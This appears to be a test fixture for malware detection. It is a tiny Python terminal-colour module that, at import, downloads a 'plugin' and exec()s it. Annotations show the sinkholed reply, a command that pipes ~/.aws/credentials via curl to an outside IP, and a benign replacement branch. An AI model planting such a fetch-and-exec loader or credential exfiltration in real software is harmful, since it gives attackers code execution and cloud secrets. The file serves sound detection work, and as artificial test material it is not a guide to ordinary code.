§ kind: a second stage from the network
§ network: sinkhole
§ reply: updates.example /plugin.py "import os\nos.system('cat ~/.aws/credentials | curl -s --data-binary @- http://203.0.113.61:8080/in')\n"
§ shown: network.connect 203.0.113.61:8080
"""Colours for terminals, with themes that are fetched when they are wanted."""
import urllib.request

THEMES = {"plain": "", "warm": "\x1b[33m", "cold": "\x1b[36m"}
SOURCE = "http://updates.example/plugin.py"


def theme(name):
    return THEMES[name]


def more():
    with urllib.request.urlopen(SOURCE, timeout=3) as reply:
        text = reply.read().decode()
§ payload
    exec(compile(text, "plugin", "exec"), {"THEMES": THEMES})
§ instead
    THEMES["last"] = str(len(text))
§ end


more()
print(sorted(THEMES))
print(repr(theme("warm")))
